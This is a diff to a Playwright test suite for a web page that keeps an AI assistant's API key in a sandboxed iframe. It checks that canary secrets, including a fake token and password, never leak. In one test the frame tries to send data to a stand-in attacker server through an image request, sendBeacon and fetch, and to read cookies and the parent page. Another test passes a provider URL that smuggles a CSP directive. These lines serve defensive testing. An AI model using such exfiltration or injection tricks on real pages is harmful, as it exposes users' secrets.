@@ -8,9 +8,17 @@ import { servePage } from './server.js';
 
 /** A value of each class that is replaced, wherever such values stand. */
 const CANARIES = {
-  host: 'canary-7f3a9.corp.lan', upstream: 'canary_pool_x', address: '10.77.66.55', address6: '2a01:4f8:77::cafe', client: '10.88.77.66',
-  password: 'hunter2-Canary-Zq81', token: 'ghp_16C7e42F292c6912E7710c838347Ae178B4a', bearer: 'canarybearer0123456789abcdef', mail: 'canary.person@mail.canary-corp.io',
-  url_password: 'CanaryUrlPw77', asked: 'canary-question.corp.lan',
+  host: 'canary-7f3a9.corp.lan',
+  upstream: 'canary_pool_x',
+  address: '10.77.66.55',
+  address6: '2a01:4f8:77::cafe',
+  client: '10.88.77.66',
+  password: 'hunter2-Canary-Zq81',
+  token: 'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
+  bearer: 'canarybearer0123456789abcdef',
+  mail: 'canary.person@mail.canary-corp.io',
+  url_password: 'CanaryUrlPw77',
+  asked: 'canary-question.corp.lan',
 };
 const SECRETS = `upstream ${CANARIES.upstream} {
     server ${CANARIES.address}:8080;
@@ -31,8 +39,11 @@ ${INCIDENT.log.replace('10.0.1.55', CANARIES.client).replaceAll('10.0.2.10', CAN
 
 /** As they are, and in the encodings that could carry them. */
 const TRACES = Object.values(CANARIES).flatMap((value) => [
-  value, Buffer.from(value).toString('hex'), encodeURIComponent(value),
-  Buffer.from(value).toString('base64').replace(/.?=*$/, ''), [...value].reverse().join(''),
+  value,
+  Buffer.from(value).toString('hex'),
+  encodeURIComponent(value),
+  Buffer.from(value).toString('base64').replace(/.?=*$/, ''),
+  [...value].reverse().join(''),
 ]);
 
 /** @param {unknown} said */
@@ -51,7 +62,7 @@ test('nothing that was replaced is in any message to the frame, nor in any reque
     await page.getByLabel('Anything to add').fill(`is it ${CANARIES.asked} or ${CANARIES.address}?`);
     await assistant.prepare();
     await assistant.send();
-    await expect(assistant.status).toHaveText(`${NAMES[format]} has answered.`);
+    await expect(assistant.status).toHaveText(`${NAMES[format]} answered.`);
     await expect(assistant.review).toContainText(`proxy_pass http://${CANARIES.upstream}`); // restored on this side
   }
   const told = await assistant.told();
@@ -67,35 +78,59 @@ test('the page cannot reach its own assistant’s provider, nor the frame anythi
   const attacker = await servePage();
   watch.own.push(attacker.url);
   await assistant.askAs('Anthropic');
-  await expect(assistant.status).toHaveText('Anthropic has answered.');
+  await expect(assistant.status).toHaveText('Anthropic answered.');
   servers.anthropic.reset();
-  const fromPage = await page.evaluate((url) => fetch(url).then(() => 'reached', () => 'refused'), `${servers.anthropic.origin}/v1/models`);
+  const fromPage = await page.evaluate(
+    (url) =>
+      fetch(url).then(
+        () => 'reached',
+        () => 'refused',
+      ),
+    `${servers.anthropic.origin}/v1/models`,
+  );
   expect(fromPage).toBe('refused');
   expect(servers.anthropic.asked).toEqual([]);
 
   const frame = await (await page.locator('iframe.key-frame').elementHandle())?.contentFrame();
-  const fromFrame = await frame?.evaluate(async ([attackerUrl, siteUrl]) => {
-    /** @param {() => unknown} read */
-    const attempt = (read) => {
-      try {
-        return `read ${read()}`;
-      } catch {
-        return 'refused';
-      }
-    };
-    new Image().src = `${attackerUrl}leak.png`;
-    navigator.sendBeacon(attackerUrl, 'x');
-    return {
-      attacker: await fetch(attackerUrl).then(() => 'reached', () => 'refused'),
-      site: await fetch(`${siteUrl}index.html`).then(() => 'reached', () => 'refused'),
-      parent: attempt(() => parent.document.title),
-      storage: attempt(() => sessionStorage.length),
-      cookie: attempt(() => document.cookie),
-      origin: self.origin,
-      worker: attempt(() => new Worker('frame.js')),
-    };
-  }, [attacker.url, page.url()]);
-  expect(fromFrame).toEqual({ attacker: 'refused', site: 'refused', parent: 'refused', storage: 'refused', cookie: 'refused', origin: 'null', worker: 'refused' });
+  const fromFrame = await frame?.evaluate(
+    async ([attackerUrl, siteUrl]) => {
+      /** @param {() => unknown} read */
+      const attempt = (read) => {
+        try {
+          return `read ${read()}`;
+        } catch {
+          return 'refused';
+        }
+      };
+      new Image().src = `${attackerUrl}leak.png`;
+      navigator.sendBeacon(attackerUrl, 'x');
+      return {
+        attacker: await fetch(attackerUrl).then(
+          () => 'reached',
+          () => 'refused',
+        ),
+        site: await fetch(`${siteUrl}index.html`).then(
+          () => 'reached',
+          () => 'refused',
+        ),
+        parent: attempt(() => parent.document.title),
+        storage: attempt(() => sessionStorage.length),
+        cookie: attempt(() => document.cookie),
+        origin: self.origin,
+        worker: attempt(() => new Worker('frame.js')),
+      };
+    },
+    [attacker.url, page.url()],
+  );
+  expect(fromFrame).toEqual({
+    attacker: 'refused',
+    site: 'refused',
+    parent: 'refused',
+    storage: 'refused',
+    cookie: 'refused',
+    origin: 'null',
+    worker: 'refused',
+  });
   expect(attacker.asked).toEqual([]);
   await attacker.close();
   expect(watch.violations.length).toBeGreaterThan(0);
@@ -112,12 +147,24 @@ test('the frame takes orders of the page only, and only such as it knows', async
   await frame?.evaluate((message) => window.postMessage(message, '*'), order);
   /** @type {unknown[]} */
   const misshapen = [
-    { ...order, extra: 1 }, { ...order, body: { evil: 1 } }, { ...order, id: '7' }, { ...order, type: 'fetch' }, { type: 'send' }, { ...order, type: 'constructor' },
-    [order], 'send', null, 7, { ...order, url: undefined },
+    { ...order, extra: 1 },
+    { ...order, body: { evil: 1 } },
+    { ...order, id: '7' },
+    { ...order, type: 'fetch' },
+    { type: 'send' },
+    { ...order, type: 'constructor' },
+    [order],
+    'send',
+    null,
+    7,
+    { ...order, url: undefined },
   ];
   // In shape, but not what this frame would do with it, or for another provider than the key's.
   const wrong = [
-    { ...order, url: 'http://127.0.0.1:9/v1/messages' }, { ...order, url: servers.gemini.origin }, { ...order, provider: 'gemini' }, { ...order, provider: 'nobody' },
+    { ...order, url: 'http://127.0.0.1:9/v1/messages' },
+    { ...order, url: servers.gemini.origin },
+    { ...order, provider: 'gemini' },
+    { ...order, provider: 'nobody' },
     { type: 'models', id: 8, provider: 'gemini' },
   ];
   for (const messages of [misshapen, wrong]) {
@@ -147,9 +194,15 @@ test('the page believes its own frame only, and only what it waits for', async (
   await page.evaluate(() => window.postMessage({ type: 'text', id: 1, text: 'FORGED' }, '*'));
   await frame?.evaluate(() => {
     for (const message of [
-      { type: 'text', id: 99, text: 'FORGED' }, { type: 'text', id: 1, text: 'FORGED', more: 1 }, { type: 'text', id: 1, text: { html: 'FORGED' } },
-      { type: 'say', id: 1, text: 'FORGED' }, { type: 'failed', id: 1, kind: 'FORGED', status: 0, detail: '' }, 'FORGED', null,
-    ]) parent.postMessage(message, '*');
+      { type: 'text', id: 99, text: 'FORGED' },
+      { type: 'text', id: 1, text: 'FORGED', more: 1 },
+      { type: 'text', id: 1, text: { html: 'FORGED' } },
+      { type: 'say', id: 1, text: 'FORGED' },
+      { type: 'failed', id: 1, kind: 'FORGED', status: 0, detail: '' },
+      'FORGED',
+      null,
+    ])
+      parent.postMessage(message, '*');
     parent.postMessage({ type: 'text', id: 1, text: 'the frame’s own' }, '*');
   });
   await expect(assistant.text).toContainText('the frame’s own');
@@ -163,11 +216,21 @@ test('the key stays in the frame, with its provider, until it is forgotten', asy
     addEventListener('message', ({ data }) => state.allHeard.push(data));
   });
   await assistant.askAs('Anthropic');
-  await expect(assistant.status).toHaveText('Anthropic has answered.');
+  await expect(assistant.status).toHaveText('Anthropic answered.');
   await expect(assistant.key).toHaveAttribute('type', 'password');
   await expect(assistant.key).toHaveAttribute('autocomplete', 'off');
-  expect(JSON.stringify(await page.evaluate(() => [/** @type {any} */ (window).allHeard, document.documentElement.outerHTML, location.href,
-    { ...localStorage }, { ...sessionStorage }, document.cookie]))).not.toContain(KEY);
+  expect(
+    JSON.stringify(
+      await page.evaluate(() => [
+        /** @type {any} */ (window).allHeard,
+        document.documentElement.outerHTML,
+        location.href,
+        { ...localStorage },
+        { ...sessionStorage },
+        document.cookie,
+      ]),
+    ),
+  ).not.toContain(KEY);
   expect(JSON.stringify(await assistant.told())).not.toContain(KEY);
   expect(await context.cookies()).toEqual([]);
 
@@ -236,19 +299,30 @@ test('a frame on an origin of its own sends that origin', async ({ page, sandbox
   const apart = await servePage('/', { overlay: local.folder });
   const folder = info.outputPath('page');
   await cp(local.folder, folder, { recursive: true });
-  await writeFile(`${folder}/index.html`, (await (await fetch(site.url)).text())
-    .replace('data-frame="assistant/index.html"', `data-frame="${apart.url}assistant/index.html"`)
-    .replace("frame-src 'self'", `frame-src ${new URL(apart.url).origin}`));
+  await writeFile(
+    `${folder}/index.html`,
+    (await (await fetch(site.url)).text())
+      .replace('data-frame="assistant/index.html"', `data-frame="${apart.url}assistant/index.html"`)
+      .replace("frame-src 'self'", `frame-src ${new URL(apart.url).origin}`),
+  );
   const built = await servePage('/', { overlay: folder });
   watch.own.push(apart.url, built.url);
   servers.ollama.allow([new URL(apart.url).origin]);
   await sandbox.open(built.url);
   await sandbox.paste(INCIDENT.text);
   await assistant.askAs('Ollama');
-  await expect(assistant.status).toHaveText('Ollama has answered.');
+  await expect(assistant.status).toHaveText('Ollama answered.');
   expect(servers.ollama.posts()[0].headers.origin).toBe(new URL(apart.url).origin);
   const frame = page.frames().find((one) => one.url().startsWith(apart.url));
-  expect(await frame?.evaluate(() => { try { return parent.document.title; } catch { return 'refused'; } })).toBe('refused');
+  expect(
+    await frame?.evaluate(() => {
+      try {
+        return parent.document.title;
+      } catch {
+        return 'refused';
+      }
+    }),
+  ).toBe('refused');
   await Promise.all([apart.close(), built.close()]);
 });
 
@@ -275,19 +349,37 @@ test('the list of providers is one setting: of the policy, or of a page without 
   expect(without).not.toMatch(/assistant|frame-src/);
   const usual = await assistantSettings({});
   expect(withAssistant(source, usual)).toContain("connect-src 'self'; frame-src 'self';");
-  expect(withAssistant(source, await assistantSettings({ STACKENGINE_ASSISTANT_FRAME: 'https://frame.corp.example/a/index.html' })))
-    .toMatch(/frame-src https:\/\/frame\.corp\.example;[^]*data-frame="https:\/\/frame\.corp\.example\/a\/index\.html"/);
+  expect(withAssistant(source, await assistantSettings({ STACKENGINE_ASSISTANT_FRAME: 'https://frame.corp.example/a/index.html' }))).toMatch(
+    /frame-src https:\/\/frame\.corp\.example;[^]*data-frame="https:\/\/frame\.corp\.example\/a\/index\.html"/,
+  );
   const list = checkProviders(JSON.parse(await readFile(SHIPPED, 'utf8')));
   expect(originsOf(list)).toEqual([
-    'https://api.anthropic.com', 'https://api.openai.com', 'https://generativelanguage.googleapis.com', 'https://openrouter.ai',
-    'https://api.mistral.ai', 'https://api.groq.com', 'http://127.0.0.1:11434', 'http://127.0.0.1:8080', 'http://127.0.0.1:8000', 'http://127.0.0.1:1234',
+    'https://api.anthropic.com',
+    'https://api.openai.com',
+    'https://generativelanguage.googleapis.com',
+    'https://openrouter.ai',
+    'https://api.mistral.ai',
+    'https://api.groq.com',
+    'http://127.0.0.1:11434',
+    'http://127.0.0.1:8080',
+    'http://127.0.0.1:8000',
+    'http://127.0.0.1:1234',
   ]);
   const good = { id: 'corp', name: 'Gateway', format: 'openai-chat', base: 'https://llm.corp.example/v1', key: 'optional' };
   expect(checkProviders([good])).toHaveLength(1);
   for (const wrong of [
-    [], {}, [{ ...good, base: "https://x.example; script-src 'unsafe-inline'" }], [{ ...good, base: 'https://x.example/' }], [{ ...good, base: 'ftp://x.example' }],
-    [{ ...good, format: 'toString' }], [{ ...good, key: true }], [{ ...good, header: 'x' }], [good, good], [null],
-  ]) expect(() => checkProviders(wrong), JSON.stringify(wrong)).toThrow(/list|provider/);
+    [],
+    {},
+    [{ ...good, base: "https://x.example; script-src 'unsafe-inline'" }],
+    [{ ...good, base: 'https://x.example/' }],
+    [{ ...good, base: 'ftp://x.example' }],
+    [{ ...good, format: 'toString' }],
+    [{ ...good, key: true }],
+    [{ ...good, header: 'x' }],
+    [good, good],
+    [null],
+  ])
+    expect(() => checkProviders(wrong), JSON.stringify(wrong)).toThrow(/list|provider/);
 });
 
 test('the policy of the frame names the providers of its list, and nothing else', async ({ page, servers, site }) => {
@@ -324,7 +416,7 @@ test('what the user chose to redact, and what looks random, holds for the assist
   await assistant.prepare();
   await expect(assistant.body).not.toContainText('Zanzibar');
   // One value has one placeholder, here and there.
-  const body = await assistant.body.textContent() ?? '';
+  const body = (await assistant.body.textContent()) ?? '';
   const placeholders = [...new Set(await redacted.locator('mark').allTextContents())];
   expect(placeholders.length).toBeGreaterThan(3);
   for (const placeholder of placeholders) expect(body).toContain(placeholder);
